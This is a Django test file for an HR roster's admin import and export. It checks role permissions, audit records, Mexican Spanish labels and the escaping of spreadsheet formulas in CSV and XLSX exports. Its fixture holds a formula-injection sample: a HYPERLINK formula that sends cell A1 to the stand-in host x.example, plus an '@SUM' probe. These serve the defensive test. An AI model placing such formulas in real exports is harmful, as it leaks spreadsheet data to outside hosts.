"""The roster's import and export in the admin are HR's alone, and the export is escaped like
every other export of the site (DESIGN.md "Privacy", "Data exchange")."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.models import AuditEvent, Employee
from tests.factories import EmployeeFactory

from .test_access import roster_state

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("admin:accounts_employee_export")
IMPORT_URL = reverse("admin:accounts_employee_import")
CONFIRM_URL = reverse("admin:accounts_employee_process_import")
HEADER = "employee_number,full_name,email,phone,department_code,role_code,position,active\n"
HOSTILE_NAME = '=HYPERLINK("http://x.example/?"&A1,"Ana")'


@pytest.fixture
def roster(tree, general_role):
    return EmployeeFactory(
        employee_number="E1",
        full_name=HOSTILE_NAME,
        email="ana@example.gob.mx",
        phone="+52 33 1234 5678",
        position="@SUM(1+1)",
        department=tree["ROADS"],
        job_role=general_role,
    )


def export_form_data(client, label: str) -> dict:
    """What the admin's export page posts: every field it offers, and the format `label`."""
    form = client.get(EXPORT_URL).context["form"]
    data = {name: field.initial for name, field in form.fields.items() if field.initial}
    data["format"] = next(value for value, title in form.fields["format"].choices if title == label)
    return data


def csv_export_data() -> dict:
    """The export page's POST for CSV, with every column, as HR's page offers it."""
    data = {"format": "0", "resource": "0"}
    columns = HEADER.strip().split(",")
    data.update({f"employeeresource_{column}": "on" for column in columns})
    return data


def test_editor_is_refused_the_export_page_and_the_download(client_as, roster):
    client = client_as("editor")
    before = roster_state()
    assert client.get(EXPORT_URL).status_code == 403
    response = client.post(EXPORT_URL, csv_export_data())
    assert response.status_code == 403
    assert b"ana@example.gob.mx" not in response.content
    assert roster_state() == before  # and no export is recorded: nothing left the site


def test_editor_is_refused_the_import_and_nothing_is_written(client_as, roster):
    client = client_as("editor")
    before = roster_state()
    assert client.get(IMPORT_URL).status_code == 403
    text = HEADER + "E1,Nombre Cambiado,otra@x.gob.mx,,WELFARE,GEN,Jefa,1\n"
    upload = {"format": "0", "import_file": SimpleUploadedFile("r.csv", text.encode())}
    assert client.post(IMPORT_URL, upload).status_code == 403
    confirm = {"import_file_name": "r.csv", "original_file_name": "r.csv", "format": "0"}
    assert client.post(CONFIRM_URL, confirm).status_code == 403
    assert roster_state() == before
    assert Employee.objects.get(employee_number="E1").full_name == HOSTILE_NAME


def test_hr_exports_the_roster_with_formulas_escaped_and_the_export_audited(client_as, hr, roster):
    client = client_as("hr")
    response = client.post(EXPORT_URL, export_form_data(client, "csv"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 1
    assert rows[0]["full_name"] == "'" + HOSTILE_NAME
    assert rows[0]["position"] == "'@SUM(1+1)"
    # A phone number is a number, not a formula: left as it is, like everywhere else.
    assert rows[0]["phone"] == "+52 33 1234 5678"
    assert rows[0]["email"] == "ana@example.gob.mx"
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.user == hr
    assert event.detail == {"what": "roster", "format": "csv", "rows": 1}


def test_hr_xlsx_export_is_escaped_too(client_as, roster):
    from openpyxl import load_workbook

    client = client_as("hr")
    response = client.post(EXPORT_URL, export_form_data(client, "xlsx"))
    assert response.status_code == 200
    values = list(load_workbook(io.BytesIO(response.content)).active.values)
    assert values[1][1] == "'" + HOSTILE_NAME


def test_the_admin_import_leads_hr_to_the_site_import_page(client_as, roster):
    client = client_as("hr")
    for url in (IMPORT_URL, CONFIRM_URL):
        response = client.post(url, {"format": "0"}) if url == CONFIRM_URL else client.get(url)
        assert response.status_code == 302
        assert response["Location"] == reverse("imports:start")


def test_roster_exports_in_the_import_format(roster):
    from accounts.resources import EmployeeResource

    dataset = EmployeeResource().export()
    assert dataset.headers == HEADER.strip().split(",")
    row = dict(zip(dataset.headers, dataset[0], strict=True))
    assert (row["employee_number"], row["department_code"], row["role_code"]) == (
        "E1",
        "ROADS",
        "GEN",
    )


def test_every_import_or_export_of_an_accounts_model_is_hr_only(rf, editor, hr):
    # The department import/export, when the admin offers one, follows the same rule.
    from django.contrib import admin
    from import_export.admin import ExportMixin, ImportMixin

    exchanges = [
        model_admin
        for model, model_admin in admin.site._registry.items()
        if model._meta.app_label == "accounts"
        and isinstance(model_admin, ImportMixin | ExportMixin)
    ]
    assert exchanges
    for model_admin in exchanges:
        for user, allowed in ((editor, False), (hr, True)):
            request = rf.get("/")
            request.user = user
            for check in ("has_import_permission", "has_export_permission"):
                if hasattr(model_admin, check):
                    assert getattr(model_admin, check)(request) is allowed, model_admin


def test_the_export_page_speaks_mexican_spanish_not_the_library_s(client_as, roster):
    body = client_as("hr").get(EXPORT_URL, HTTP_ACCEPT_LANGUAGE="es-mx").content.decode()
    assert "Esta exportación incluirá los siguientes campos" in body
    assert "importador" not in body
    assert "Fichero" not in body
